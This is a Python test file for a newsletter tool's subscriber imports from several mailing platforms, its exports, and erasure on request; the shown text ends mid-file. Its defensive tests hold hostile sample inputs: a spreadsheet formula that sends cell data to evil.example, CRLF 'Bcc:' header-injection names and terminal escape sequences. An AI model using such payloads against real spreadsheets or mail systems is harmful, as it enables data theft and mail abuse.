"""Imports from other platforms' exports, export of everything, and erasure on request.

The sample exports in tests/data/imports/ were written for these tests from each platform's
documented columns and status values (see digest/audience/imports/).
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from datetime import datetime, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from digest.audience import erasures, records
from digest.audience.exports import spreadsheet_cell, write_export
from digest.audience.imports.importer import import_file
from digest.audience.imports.mapping import parse_mapping
from digest.audience.imports.report import ImportReport
from digest.audience.imports.values import parse_time
from digest.audience.lifecycle import Forgotten, add_subscriber, forget, show
from digest.audience.rhythm import Rhythm, Rhythms
from digest.audience.subscribers import Categories, SubscriberStore
from digest.cli import main
from digest.errors import StoreError, UsageError

from .conftest import run_digest
from .helpers import outbox_to

NOW = datetime(2026, 11, 23, 12, 0, tzinfo=timezone.utc)
LATER = datetime(2026, 11, 30, 12, 0, tzinfo=timezone.utc)
ROOT = Path(__file__).resolve().parent.parent
DATA = ROOT / "tests" / "data" / "imports"
KEY = b"k" * 32
SECTIONS = Categories(
    {name: name for name in ("Work", "Tools", "Research", "Healthcare", "Ethics", "Productivity")}
)


@pytest.fixture
def store(tmp_path: Path) -> SubscriberStore:
    return SubscriberStore(tmp_path / "subs.sqlite")


def load(store: SubscriberStore, name: str, **options: object) -> ImportReport:
    return import_file(
        store,
        DATA / name if "/" not in name else Path(name),
        SECTIONS,
        now=NOW,
        erasure_key=KEY,
        **options,  # type: ignore[arg-type]
    )


def record(store: SubscriberStore, email: str) -> records.Record:
    found = records.get_record(store.connection, email)
    assert found is not None, email
    return found


def test_mailchimp_subscribed_file(store: SubscriberStore) -> None:
    report = load(store, "mailchimp_subscribed_members_export.csv")
    assert report.platform == "mailchimp"
    assert (report.rows, report.added, report.by_status) == (4, 3, {"active": 3})
    assert [(r.row, r.email, r.reason[:22]) for r in report.rejected] == [
        (5, "not-an-address", "'not-an-address' is no")
    ]
    ada = record(store, "ada@example.com")
    assert (ada.name, ada.status, ada.source, ada.source_id) == (
        "Ada Lovelace",
        "active",
        "import:mailchimp",
        "101",
    )
    assert (ada.subscribed_at, ada.confirmed_at) == ("2024-03-01T09:15:00Z", "2024-03-01T09:20:41Z")
    assert ada.consent == records.Consent(
        at="2024-03-01T09:15:00Z",
        ip="198.51.100.0/24",  # truncated by default: never the full address
        method="import:mailchimp",
        confirm_ip="198.51.100.0/24",
    )
    linus = record(store, "linus.park@example.org")
    assert linus.name == "Linus Park"
    assert linus.consent is not None and linus.consent.ip == "2001:db8:85a3::/48"
    assert record(store, "grace.hopper@example.com").name == "Grace"


def test_mailchimp_unsubscribed_and_cleaned_files_keep_status_and_dates(
    store: SubscriberStore,
) -> None:
    unsub = load(store, "mailchimp_unsubscribed_members_export.csv")
    cleaned = load(store, "mailchimp_cleaned_members_export.csv")
    assert (unsub.by_status, cleaned.by_status) == ({"unsubscribed": 2}, {"bounced": 1})
    peter = record(store, "peter.novak@example.com")
    assert (peter.status, peter.status_at, peter.reason) == (
        "unsubscribed",
        "2024-07-23T12:19:27Z",
        "I no longer want to receive these emails",
    )
    assert record(store, "maria.silva@example.net").reason == "Too many emails"
    olaf = record(store, "old.box@example.org")
    assert (olaf.status, olaf.status_at, olaf.reason) == (
        "bounced",
        "2024-03-23T17:30:05Z",
        "cleaned by Mailchimp after Week 12",
    )
    # The history shows them arriving at opt-in and leaving when Mailchimp says they did.
    assert [(e["at"], e["status"]) for e in olaf.history] == [
        ("2022-02-05T19:28:23Z", "active"),
        ("2024-03-23T17:30:05Z", "bounced"),
    ]


def test_a_later_subscribed_file_never_brings_back_who_left(store: SubscriberStore) -> None:
    load(store, "mailchimp_unsubscribed_members_export.csv")
    stale = DATA / "mailchimp_subscribed_members_export.csv"
    text = stale.read_text().replace("ada@example.com", "peter.novak@example.com")
    path = store.path.parent / "stale.csv"
    path.write_text(text)
    report = load(store, str(path))
    assert report.kept_inactive == 1
    assert record(store, "peter.novak@example.com").status == "unsubscribed"


def test_substack(store: SubscriberStore) -> None:
    report = load(store, "substack_subscribers.csv")
    assert report.platform == "substack"
    assert report.by_status == {"active": 2, "unsubscribed": 1}
    assert [(r.row, r.reason) for r in report.rejected] == [
        (5, "a Substack deletion request (the person asked to be deleted)")
    ]
    quiet = record(store, "quiet.reader@example.net")
    assert (quiet.status, quiet.subscribed_at, quiet.reason) == (
        "unsubscribed",
        "2024-01-05T23:26:30Z",
        "email disabled in Substack",
    )


def test_buttondown(store: SubscriberStore) -> None:
    report = load(store, "buttondown_subscribers.csv")
    assert report.platform == "buttondown"
    assert report.by_status == {"active": 2, "pending": 1, "unsubscribed": 1, "bounced": 1}
    assert record(store, "gone.away@example.com").status_at == "2024-08-01T09:00:00Z"
    dead = record(store, "dead.box@example.com")
    assert (dead.status, dead.status_at) == ("bounced", "2024-09-15T06:30:00Z")
    fatima = record(store, "fatima.zahra@example.net")
    assert fatima.consent == records.Consent(
        at="2024-04-02T11:00:00Z",
        ip="203.0.113.0/24",
        origin="https://blog.example.com/about",
        method="import:buttondown",
    )
    assert record(store, "not.yet@example.com").status == "pending"


def test_listmonk_with_go_timestamps(store: SubscriberStore) -> None:
    report = load(store, "listmonk_subscribers.csv")
    assert report.platform == "listmonk"
    assert report.by_status == {"active": 1, "unsubscribed": 2}
    kenji = record(store, "kenji.sato@example.com")
    assert (kenji.subscribed_at, kenji.status_at, kenji.reason) == (
        "2024-02-01T02:30:00Z",  # 08:00 +0530
        "2025-03-04T12:00:00Z",
        "disabled in listmonk",
    )
    assert record(store, "spam.trap@example.com").reason == "blocklisted in listmonk"
    assert record(store, "noor.haddad@example.net").source_id == (
        "6e5a3b1e-7c1f-4b1a-9f00-000000000001"
    )


def test_ghost(store: SubscriberStore) -> None:
    report = load(store, "ghost_members.csv")
    assert (report.platform, report.by_status) == ("ghost", {"active": 1, "unsubscribed": 1})
    assert record(store, "muted@example.com").reason == "not subscribed to emails in Ghost"
    assert record(store, "jamie@example.com").subscribed_at == "2022-04-06T07:42:08Z"


def test_the_first_users_json(store: SubscriberStore) -> None:
    report = load(store, str(ROOT / "content" / "subscribers.json"))
    assert (report.platform, report.added, report.rejected) == ("digest", 12, [])
    assert store.counts()["active"] == 10
    ada = record(store, "ada@example.com")
    assert (ada.categories, ada.source_id, ada.subscribed_at) == (
        ("Work", "Tools"),
        "sub_001",
        "2026-08-02T10:15:00Z",
    )


def test_a_spreadsheets_resave_is_still_recognised(store: SubscriberStore) -> None:
    """BOM, semicolons, CRLF, quoted upper-case headers and a column of its own."""
    report = load(store, "excel_semicolon.csv")
    assert (report.platform, report.added, report.rejected) == ("mailchimp", 2, [])
    anna = record(store, "anna.k@example.com")
    assert (anna.name, anna.subscribed_at, anna.confirmed_at) == (
        "Anna K",
        "2024-01-02T03:04:05Z",
        "2024-01-02T03:05:00Z",
    )


def test_map_names_the_columns_of_any_file(store: SubscriberStore) -> None:
    mapping = parse_mapping(['email="E-mail",name="Vorname"', "subscribed_at=Angemeldet"])
    assert mapping == {"email": "e mail", "name": "vorname", "subscribed_at": "angemeldet"}
    report = load(store, "custom_columns.csv", mapping=mapping)
    assert (report.platform, report.added, report.rejected) == ("mapped", 2, [])
    clara = record(store, "clara@example.de")
    assert (clara.name, clara.status, clara.subscribed_at) == (
        "Clara",
        "active",
        "2024-03-03T00:00:00Z",
    )
    assert record(store, "dirk@example.de").status == "unsubscribed"
    with pytest.raises(StoreError, match="--map names column"):
        load(store, "custom_columns.csv", mapping={"email": "courriel"})
    with pytest.raises(StoreError, match="'mail' is not one of"):
        parse_mapping("mail=E-mail")


def test_a_file_with_no_email_column_says_how_to_map(tmp_path: Path) -> None:
    path = tmp_path / "odd.csv"
    path.write_text("Adresse,Nom\nx@example.com,X\n")
    with SubscriberStore(tmp_path / "s.sqlite") as store, pytest.raises(StoreError) as caught:
        load(store, str(path))
    assert "cannot tell which platform" in str(caught.value)
    assert "--map" in str(caught.value)


def test_dry_run_lists_the_changes_and_changes_nothing(store: SubscriberStore) -> None:
    load(store, "mailchimp_subscribed_members_export.csv")
    before = list(write_export_rows(store))
    report = load(store, "mailchimp_unsubscribed_members_export.csv", dry_run=True)
    assert report.dry_run and report.added == 2
    assert [(c.row, c.email, c.action, c.detail) for c in report.changes] == [
        (2, "peter.novak@example.com", "add", "unsubscribed"),
        (3, "maria.silva@example.net", "add", "unsubscribed"),
    ]
    assert list(write_export_rows(store)) == before


def test_importing_again_changes_nothing(store: SubscriberStore) -> None:
    for name in ("mailchimp_subscribed_members_export.csv", "buttondown_subscribers.csv"):
        load(store, name)
        again = load(store, name)
        assert (again.added, again.updated) == (0, 0), name


def write_export_rows(store: SubscriberStore, fmt: str = "json") -> list[dict[str, object]]:
    out = io.StringIO()
    write_export(store, out, fmt=fmt)
    if fmt == "json":
        return list(json.loads(out.getvalue()))
    return list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_export_then_import_into_an_empty_store_gives_the_same_store(
    tmp_path: Path, store: SubscriberStore, fmt: str
) -> None:
    for name in sorted(p.name for p in DATA.glob("*.csv") if p.name != "custom_columns.csv"):
        load(store, name)
    load(store, str(ROOT / "content" / "subscribers.json"))
    add_subscriber(
        store,
        "eve@example.com",
        name='Eve, "the" reader',
        categories=["Ethics"],
        status="active",
        now=NOW,
        erasure_key=KEY,
    )
    exported = write_export_rows(store, "json")
    assert len(exported) == sum(store.counts().values()) == 30
    assert {r["status"] for r in exported} == {"active", "pending", "unsubscribed", "bounced"}
    path = tmp_path / f"everyone.{fmt}"
    with path.open("w", encoding="utf-8", newline="") as out:
        write_export(store, out, fmt=fmt)
    with SubscriberStore(tmp_path / "empty.sqlite") as empty:
        report = load(empty, str(path))
        assert (report.platform, report.added, report.rejected) == ("digest", 30, [])
        assert write_export_rows(empty, "json") == exported


def test_forget_erases_and_an_old_export_does_not_bring_it_back(
    tmp_path: Path, store: SubscriberStore
) -> None:
    load(store, "mailchimp_subscribed_members_export.csv")
    erased = forget(store, "ADA@example.com", now=LATER, erasure_key=KEY)
    assert (erased.email, erased.existed, erased.already) == ("ada@example.com", True, False)
    assert store.get("ada@example.com") is None
    db = store.connection
    assert (
        db.execute("SELECT COUNT(*) FROM subscribers WHERE email LIKE 'ada@%'").fetchone()[0] == 0
    )
    assert [r[0] for r in db.execute("SELECT status FROM subscriber_events ORDER BY id")][-1] == (
        "forgotten"
    )
    report = load(store, "mailchimp_subscribed_members_export.csv")
    assert report.suppressed == 1 and store.get("ada@example.com") is None
    assert report.rejected[0].row == 2
    assert "erased on request on 2026-11-30" in report.rejected[0].reason
    with pytest.raises(Forgotten, match="erased on request"):
        add_subscriber(
            store,
            "ada@example.com",
            name="",
            categories=[],
            status="active",
            now=LATER,
            erasure_key=KEY,
        )
    # A store holding erased addresses will not import without the key to recognise them.
    with pytest.raises(StoreError, match="needs the privacy key"):
        import_file(store, DATA / "ghost_members.csv", SECTIONS, now=NOW, erasure_key=None)


def test_show_has_the_whole_record(store: SubscriberStore) -> None:
    load(store, "mailchimp_unsubscribed_members_export.csv")
    found = show(store, "Peter.Novak@example.com").as_dict(with_history=True)
    assert found["status"] == "unsubscribed" and found["status_cause"] == "import"
    assert [h["status"] for h in found["history"]] == ["active", "unsubscribed"]
    with pytest.raises(StoreError, match="no subscriber"):
        show(store, "nobody@example.com")


def test_an_older_store_is_upgraded_in_place_with_its_history(tmp_path: Path) -> None:
    import sqlite3

    path = tmp_path / "old.sqlite"
    db = sqlite3.connect(path)
    db.executescript(
        """
        CREATE TABLE subscribers (id INTEGER PRIMARY KEY, email TEXT NOT NULL UNIQUE,
          name TEXT NOT NULL DEFAULT '', status TEXT NOT NULL, subscribed_at TEXT NOT NULL,
          categories TEXT NOT NULL DEFAULT '[]', secret BLOB NOT NULL, source_id TEXT,
          updated_at TEXT NOT NULL);
        INSERT INTO subscribers VALUES (1, 'a@example.com', 'A', 'active',
          '2026-01-01T00:00:00Z', '[]', x'00', NULL, '2026-01-01T00:00:00Z');
        INSERT INTO subscribers VALUES (2, 'b@example.com', 'B', 'unsubscribed',
          '2026-02-01T00:00:00Z', '[]', x'00', NULL, '2026-03-01T00:00:00Z');
        """
    )
    db.commit()
    db.close()
    with SubscriberStore(path) as store:
        b = record(store, "b@example.com")
        assert (b.status_at, b.source) == ("2026-03-01T00:00:00Z", "")
        assert [(e["at"], e["status"]) for e in b.history] == [
            ("2026-02-01T00:00:00Z", "active"),
            ("2026-03-01T00:00:00Z", "unsubscribed"),
        ]
    with SubscriberStore(path) as store:  # opening again adds nothing twice
        assert len(record(store, "b@example.com").history) == 2


def test_parse_time_forms() -> None:
    assert parse_time("2018-02-12 10:54:27", "x") == "2018-02-12T10:54:27Z"
    assert parse_time("2021-06-22 10:21:27.471456 +0000 UTC", "x") == "2021-06-22T10:21:27Z"
    assert parse_time("2023-03-24 10:23:10 UTC", "x") == "2023-03-24T10:23:10Z"
    assert parse_time("2024-05-02T11:00:00.123Z", "x") == "2024-05-02T11:00:00Z"
    assert parse_time("Tue, 01 Dec 2026 10:00:00 +0100", "x") == "2026-12-01T09:00:00Z"
    with pytest.raises(ValueError, match="created_at 'yesterday' is not a date"):
        parse_time("yesterday", "created_at")


@pytest.mark.integration
def test_cli_import_dry_run_forget_and_show(sample_site: Path) -> None:
    site = sample_site
    dry = run_digest(
        "subscribers", "import", str(DATA / "ghost_members.csv"), "--dry-run", cwd=site
    )
    assert dry.returncode == 0, dry.stderr
    assert "ghost_members.csv (ghost): 2 rows: 2 would be added" in dry.stdout
    assert "row 2: add jamie@example.com: active" in dry.stdout
    assert "dry run: nothing was changed" in dry.stdout
    done = run_digest("subscribers", "import", str(DATA / "ghost_members.csv"), cwd=site)
    assert "2 added" in done.stdout
    shown = run_digest("subscribers", "show", "jamie@example.com", "--json", cwd=site)
    assert json.loads(shown.stdout)["source"] == "import:ghost"
    gone = run_digest("subscribers", "forget", "jamie@example.com", "--yes", cwd=site)
    assert gone.returncode == 0, gone.stderr
    assert gone.stdout.startswith("jamie@example.com: erased")
    back = run_digest("subscribers", "import", str(DATA / "ghost_members.csv"), cwd=site)
    assert back.returncode == 1
    assert "row 2 rejected: erased on request" in back.stderr
    refused = run_digest("subscribers", "add", "jamie@example.com", cwd=site)
    assert refused.returncode != 0 and "erased on request" in refused.stderr
    exported = run_digest("subscribers", "export", "--format", "csv", cwd=site)
    assert "jamie@example.com" not in exported.stdout
    assert exported.stdout.splitlines()[0] == (
        "email,name,status,subscribed_at,confirmed_at,status_at,reason,categories,source,id,consent"
    )


def test_mailchimp_api_json(store: SubscriberStore) -> None:
    report = load(store, "mailchimp_api_members.json")
    assert report.platform == "mailchimp-api"
    assert report.by_status == {"active": 1, "unsubscribed": 1, "bounced": 1, "pending": 1}
    ana = record(store, "ana@example.com")
    assert (ana.name, ana.subscribed_at, ana.confirmed_at, ana.source_id) == (
        "Ana Lima",
        "2025-02-01T08:00:00Z",
        "2025-02-01T08:05:00Z",
        "a1b2c3d4e5",
    )
    ben = record(store, "ben@example.com")
    assert (ben.name, ben.status_at, ben.reason) == (
        "Ben",
        "2025-06-30T12:00:00Z",
        "N/A (Unsubscribed by admin)",
    )
    assert record(store, "cleo@example.com").status_at == "2025-01-15T03:00:00Z"


@pytest.mark.parametrize(
    ("encoding", "delimiter"),
    [("cp1252", ","), ("utf-16", "\t"), ("utf-8", "|"), ("utf-8-sig", ";")],
)
def test_encodings_and_delimiters(
    tmp_path: Path, store: SubscriberStore, encoding: str, delimiter: str
) -> None:
    rows = [
        ["Email", "Name", "Status", "Signed up"],
        ["José Núñez <jose@example.com>", "", "Subscribed", "03/04/2024"],
        ["mailto:zoe@example.com", "Zoë", "spammy", "2024/05/06 07:08"],
        ["ulf@example.com", "Ulf", "Free", "06.07.2024"],
    ]
    path = tmp_path / "list.csv"
    path.write_bytes("\r\n".join(delimiter.join(r) for r in rows).encode(encoding))
    report = load(store, str(path), mapping={"subscribed_at": "signed up"})
    assert report.rejected == [] and report.added == 3
    assert report.encoding == {"utf-8-sig": "utf-8"}.get(encoding, encoding)
    jose = record(store, "jose@example.com")
    assert (jose.name, jose.status, jose.subscribed_at) == (
        "José Núñez",
        "active",
        "2024-03-04T00:00:00Z",  # month first, as US platforms write it
    )
    zoe = record(store, "zoe@example.com")
    assert (zoe.name, zoe.status, zoe.subscribed_at) == (
        "Zoë",
        "unsubscribed",
        "2024-05-06T07:08:00Z",
    )
    assert record(store, "ulf@example.com").subscribed_at == "2024-07-06T00:00:00Z"


def test_an_unreadable_file_says_so(tmp_path: Path, store: SubscriberStore) -> None:
    path = tmp_path / "binary.csv"
    path.write_bytes(b"email\n\x81\x8d\x8f\x90\x9d\n")
    with pytest.raises(StoreError, match="neither UTF-8 nor Windows-1252"):
        load(store, str(path))
    with pytest.raises(UsageError, match="no such file"):
        load(store, str(tmp_path / "missing.csv"))


def test_a_missing_file_is_a_usage_error_exit_2(sample_site: Path) -> None:
    from click.testing import CliRunner

    from digest.cli import main

    config = str(sample_site / "config.yaml")
    done = CliRunner().invoke(main, ["--config", config, "subscribers", "import", "gone.csv"])
    assert done.exit_code == 2
    assert done.stderr == "error: gone.csv: no such file\n"


def cli(site: Path, *args: str) -> Result:
    """The command in this process (so that coverage sees it), as a user would run it."""
    return CliRunner().invoke(main, ["--config", str(site / "config.yaml"), *args])


def test_cli_in_process(sample_site: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    site = sample_site
    dry = cli(
        site,
        "subscribers",
        "import",
        str(DATA / "mailchimp_cleaned_members_export.csv"),
        "--dry-run",
    )
    assert dry.exit_code == 0, dry.output
    assert dry.output.splitlines() == [
        f"{DATA / 'mailchimp_cleaned_members_export.csv'} (mailchimp): 1 rows: 1 would be added, "
        "0 would be updated, 0 unchanged, 0 rejected",
        "  new: 1 bounced",
        "  row 2: add old.box@example.org: bounced",
        "dry run: nothing was changed",
    ]
    mapped = cli(
        site,
        "subscribers",
        "import",
        str(DATA / "custom_columns.csv"),
        "--map",
        'email="E-mail",name=Vorname',
        "--json",
    )
    assert mapped.exit_code == 0, mapped.output
    assert json.loads(mapped.stdout)["platform"] == "mapped"
    bad = cli(site, "subscribers", "import", str(DATA / "substack_subscribers.csv"))
    assert bad.exit_code == 1
    assert "row 5 rejected: a Substack deletion request" in bad.output
    shown = cli(site, "subscribers", "show", "quiet.reader@example.net")
    lines = shown.output.splitlines()
    assert lines[:2] == ["quiet.reader@example.net", "  name:          -"]
    assert lines[2].startswith("  status:        unsubscribed since ")
    assert lines[2].endswith(" (email disabled in Substack)")
    assert "  source:        import:substack" in shown.output.splitlines()
    assert "  consent:       none recorded" in shown.output.splitlines()
    clara = cli(site, "subscribers", "show", "clara@example.de")
    assert "  name:          Clara" in clara.output.splitlines()
    exported = cli(site, "subscribers", "export")
    assert {r["email"] for r in json.loads(exported.stdout)} == {
        "clara@example.de",
        "dirk@example.de",
        "hannah.berg@example.com",
        "diego.alvarez@example.org",
        "quiet.reader@example.net",
    }
    only = cli(site, "subscribers", "export", "--format", "csv", "--status", "unsubscribed")
    assert [line.split(",")[0] for line in only.output.splitlines()] == [
        "email",
        "dirk@example.de",
        "quiet.reader@example.net",
    ]
    stats = cli(site, "subscribers", "stats")
    assert stats.output.splitlines()[0] == "5 subscribers: 3 active, 2 unsubscribed"
    listed = cli(site, "subscribers", "list", "--status", "unsubscribed")
    assert listed.output.splitlines()[-1] == "3 active, 2 unsubscribed"
    assert json.loads(cli(site, "subscribers", "list", "--json").stdout)[0]["email"] == (
        "clara@example.de"
    )
    unknown = cli(site, "subscribers", "add", "new@example.com", "--category", "Gardening")
    assert unknown.exit_code == 2 and "not a section: Gardening" in unknown.output
    added = cli(site, "subscribers", "add", "new@example.com", "--category", "work")
    assert added.output == "added new@example.com (active)\n"
    assert cli(site, "subscribers", "show", "new@example.com", "--json").exit_code == 0
    assert "  source:        cli" in cli(site, "subscribers", "show", "new@example.com").output
    assert cli(site, "subscribers", "remove", "new@example.com").output == (
        "removed new@example.com\n"
    )
    # No secret set by hand: the privacy key (a key file of its own) keys the hash.
    monkeypatch.delenv("DIGEST_SECRET")
    asked = cli(site, "subscribers", "forget", "clara@example.de")  # no --yes, no answer
    assert (
        asked.exit_code != 0 and cli(site, "subscribers", "show", "clara@example.de").exit_code == 0
    )
    gone = cli(site, "subscribers", "forget", "Clara@Example.de", "--yes")
    assert gone.exit_code == 0, gone.output
    assert gone.output.startswith("clara@example.de: erased (erasure recorded ")
    again = cli(site, "subscribers", "forget", "clara@example.de", "--yes")
    assert again.output.startswith("clara@example.de: not in the store; suppressed")
    missing = cli(site, "subscribers", "show", "clara@example.de")
    assert missing.exit_code != 0 and "no subscriber clara@example.de" in missing.output
    invalid = cli(site, "subscribers", "forget", "not-an-address", "--yes")
    assert invalid.exit_code != 0 and "not a valid email address" in invalid.output


def test_stored_addresses_are_never_whole() -> None:
    assert records.stored_address("203.0.113.77", "truncate", None) == "203.0.113.0/24"
    assert records.stored_address("2001:db8:1:2::9", "truncate", KEY) == "2001:db8:1::/48"
    hashed = records.stored_address("203.0.113.77", "hash", KEY)
    assert hashed == records.stored_address("203.0.113.77", "hash", KEY)
    assert hashed != records.stored_address("203.0.113.78", "hash", KEY)
    assert hashed is not None and hashed.startswith("hmac-sha256:")
    # Without a key a hash cannot be made: the network is kept instead, never the address.
    assert records.stored_address("203.0.113.77", "hash", None) == "203.0.113.0/24"
    assert records.stored_address("testclient", "truncate", None) == "unknown"
    assert records.stored_address("", "truncate", None) is None
    # A stored form read back from an export stays as it is.
    assert records.stored_address("198.51.100.0/24", "hash", KEY) == "198.51.100.0/24"


def test_describe_a_full_record() -> None:
    record = records.Record(
        email="ann@example.com",
        name="Ann",
        status="active",
        subscribed_at="2026-11-23T09:00:00Z",
        categories=("Work",),
        source_id="x1",
        source="serve",
        confirmed_at="2026-11-23T09:17:00Z",
        status_at="2026-11-23T09:17:00Z",
        consent=records.Consent(
            at="2026-11-23T09:00:00Z",
            ip="203.0.113.0/24",
            origin="https://blog.example.com/",
            text="Send me the digest.",
            method="form",
            confirm_ip="203.0.113.0/24",
        ),
        history=({"at": "2026-11-23T09:00:00Z", "status": "pending", "cause": "serve_subscribe"},),
    )
    assert records.describe(record) == [
        "ann@example.com",
        "  name:          Ann",
        "  status:        active since 2026-11-23T09:17:00Z",
        "  subscribed:    2026-11-23T09:00:00Z",
        "  confirmed:     2026-11-23T09:17:00Z",
        "  sections:      Work",
        "  source:        serve (id x1)",
        "  consent:       form at 2026-11-23T09:00:00Z",
        "    origin:      https://blog.example.com/",
        "    address:     203.0.113.0/24",
        "    confirmed from: 203.0.113.0/24",
        "    text shown:  Send me the digest.",
        "  history:",
        "    2026-11-23T09:00:00Z  pending (serve_subscribe)",
    ]


def test_a_plain_list_with_common_column_names(tmp_path: Path, store: SubscriberStore) -> None:
    path = tmp_path / "beehiiv-like.csv"
    path.write_text(
        "email,Full Name,Subscription Status,Created At,Unsubscribed At\n"
        "a@example.com,A A,active,2023-03-24 10:23:10 UTC,\n"
        "b@example.com,B B,,2023-03-24 10:36:47 UTC,2024-03-13 11:33:53 UTC\n"
        "c@example.com,,inactive,2023-03-24 10:36:48 UTC,\n"
    )
    report = load(store, str(path))
    assert (report.platform, report.rejected) == ("digest", [])
    a = record(store, "a@example.com")
    assert (a.name, a.status, a.subscribed_at) == ("A A", "active", "2023-03-24T10:23:10Z")
    b = record(store, "b@example.com")
    assert (b.status, b.status_at) == ("unsubscribed", "2024-03-13T11:33:53Z")
    assert record(store, "c@example.com").status == "unsubscribed"


# --------------------------------------------------------------------------- reading the file


@pytest.mark.parametrize(
    ("name", "content", "problem"),
    [
        ("missing.csv", None, "no such file"),
        ("broken.json", b'[{"email": "a@example.com"},\n', "2: not valid JSON: "),
        ("object.json", b'{"count": 2}', "expected a JSON list of subscribers"),
        ("empty.csv", b"\n  \n", "the file is empty"),
        ("odd.csv", b"\xff\xfeA\x00\x00\xd8", "not UTF-16 text ("),
        ("undefined.csv", b"email\nann\x81@example.com\n", "neither UTF-8 nor Windows-1252 text"),
    ],
)
def test_a_file_that_cannot_be_read_as_a_table_names_itself(
    tmp_path: Path, name: str, content: bytes | None, problem: str
) -> None:
    from digest.audience.imports.table import read_table

    path = tmp_path / name
    if content is not None:
        path.write_bytes(content)
    with pytest.raises(UsageError if content is None else StoreError) as caught:
        read_table(path)
    assert str(caught.value).startswith(f"{path}:")
    assert problem in str(caught.value)


def test_tables_in_the_shapes_platforms_write_them(tmp_path: Path) -> None:
    from digest.audience.imports.table import read_table

    wrapped = tmp_path / "members.json"
    wrapped.write_text(json.dumps({"members": [{"Email": "a@example.com"}, "stray"]}))
    table = read_table(wrapped)
    assert (table.kind, table.headers) == ("json", ["Email"])
    assert table.rows == [
        (1, {"email": "a@example.com"}, None),
        (2, None, "expected an object, got str"),
    ]
    utf16 = tmp_path / "excel.csv"
    utf16.write_bytes("email;name\r\nann@example.com;Änne\r\n".encode("utf-16"))
    table = read_table(utf16)
    assert (table.encoding, table.rows) == (
        "utf-16",
        [(2, {"email": "ann@example.com", "name": "Änne"}, None)],
    )
    extra = tmp_path / "extra.csv"
    extra.write_text("email,name\na@example.com,A,,\nb@example.com,B,surplus\n")
    rows = read_table(extra).rows
    assert rows == [
        (2, {"email": "a@example.com", "name": "A"}, None),  # empty extra fields: fine
        (3, None, "more fields than the header has"),
    ]


def test_platforms_are_named_or_recognised_or_the_file_is_refused(tmp_path: Path) -> None:
    from digest.audience.imports.platforms import PLATFORM_NAMES, detect, platform_named

    assert platform_named("mailchimp").name == "mailchimp"
    with pytest.raises(StoreError) as unknown:
        platform_named("tinyletter")
    assert str(unknown.value) == (
        f"unknown platform 'tinyletter'; known: {', '.join(PLATFORM_NAMES)}"
    )
    with pytest.raises(StoreError) as unnamed:
        detect(["Name", "Joined"], path=tmp_path / "list.csv")
    assert str(unnamed.value).startswith(
        f"{tmp_path / 'list.csv'}: cannot tell which platform exported it: no 'email' column "
        "among its headers ('Name', 'Joined'); name the columns with --map"
    )


def test_rows_of_a_plain_json_list_that_cannot_be_used_are_rejected_with_the_reason(
    store: SubscriberStore, tmp_path: Path
) -> None:
    rows = [
        {"email": "ok@example.com", "preferences": {"categories": ["Tools"]},
         "consent": json.dumps({"method": "form", "at": "2026-10-01T08:00:00Z"})},
        {"email": "p@example.com", "preferences": "Tools"},
        {"email": "f@example.com", "preferences": {"frequency": "hourly"}},
        {"email": "c@example.com", "consent": "{not json"},
        {"email": "l@example.com", "consent": ["form"]},
        {"email": "n@example.com", "name": 42},
        {"email": "gone@example.com", "unsubscribed at": "2026-09-01"},
    ]  # fmt: skip
    path = tmp_path / "list.json"
    path.write_text(json.dumps(rows))
    report = load(store, str(path))
    assert [(r.row, r.reason) for r in report.rejected] == [
        (2, "preferences is not an object"),
        (3, "frequency 'hourly' is not one of weekly, daily"),
        (4, "consent is not a JSON object"),
        (5, "consent is not an object"),
        (6, "name is not text"),
    ]
    ok = store.get("ok@example.com")
    assert ok is not None and (ok.status, ok.categories) == ("active", ("Tools",))
    gone = store.get("gone@example.com")  # a list that only says when someone left
    assert gone is not None and gone.status == "unsubscribed"
    assert {s.email for s in store.list()} == {"ok@example.com", "gone@example.com"}


# ------------------------------------------------------------------- hostile rows and cells


def test_csv_formula_injection_is_prefixed_in_the_export(
    store: SubscriberStore, tmp_path: Path
) -> None:
    """Cells starting with = + - @, a tab or a CR are prefixed with ' so that a spreadsheet
    shows them as text; the export still reads back into the same names."""
    names = {
        "a@example.com": '=HYPERLINK("https://evil.example/?"&A2,"click")',
        "b@example.com": "+1+2",
        "c@example.com": "-2+3",
        "d@example.com": "@SUM(1)",
        "e@example.com": "\t=1",
        "f@example.com": "Ann = Lee",
    }
    for email, name in names.items():
        store.add(email, name=name, now=NOW)
    out = io.StringIO()
    write_export(store, out, fmt="csv")
    cells = {row["email"]: row["name"] for row in csv.DictReader(io.StringIO(out.getvalue()))}
    assert cells == {
        "a@example.com": '\'=HYPERLINK("https://evil.example/?"&A2,"click")',
        "b@example.com": "'+1+2",
        "c@example.com": "'-2+3",
        "d@example.com": "'@SUM(1)",
        "e@example.com": "'=1",  # names lose control characters when stored: "\t=1" is "=1"
        "f@example.com": "Ann = Lee",
    }
    assert [spreadsheet_cell(v) for v in ("\t=1", "\r=1", "=", "a=b", "")] == [
        "'\t=1",
        "'\r=1",
        "'=",
        "a=b",
        "",
    ]
    # digest's own CSV reads back into the same names
    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    again = SubscriberStore(tmp_path / "again.sqlite")
    load(again, str(path))
    assert {s.email: s.name for s in again.list()} == {
        **{e: n for e, n in names.items() if e != "e@example.com"},
        "e@example.com": "=1",
    }


def test_header_injection_names_lose_control_characters_at_every_entry(
    store: SubscriberStore, tmp_path: Path
) -> None:
    path = tmp_path / "list.csv"
    path.write_text(
        'email,name\nann@example.com,"Ann\r\nBcc: victim@example.com"\n'
        'bob@example.com,"Bob\x1b]8;;https://evil.example\x07\u202eBad"\n',
        encoding="utf-8",
    )
    load(store, str(path))
    assert store.get("ann@example.com").name == "Ann Bcc: victim@example.com"  # type: ignore[union-attr]
    assert store.get("bob@example.com").name == "Bob]8;;https://evil.exampleBad"  # type: ignore[union-attr]
    # the subscribe form and `subscribers add` go through the same store
    store.add("cy@example.com", name="Cy\nBcc: x@example.com\x00", now=NOW)
    assert store.get("cy@example.com").name == "Cy Bcc: x@example.com"  # type: ignore[union-attr]
    store.add("cy@example.com", name="Cy\r\nTo: y@example.com", now=NOW)
    assert store.get("cy@example.com").name == "Cy To: y@example.com"  # type: ignore[union-attr]


def test_one_bad_import_row_is_one_skipped_row(store: SubscriberStore, tmp_path: Path) -> None:
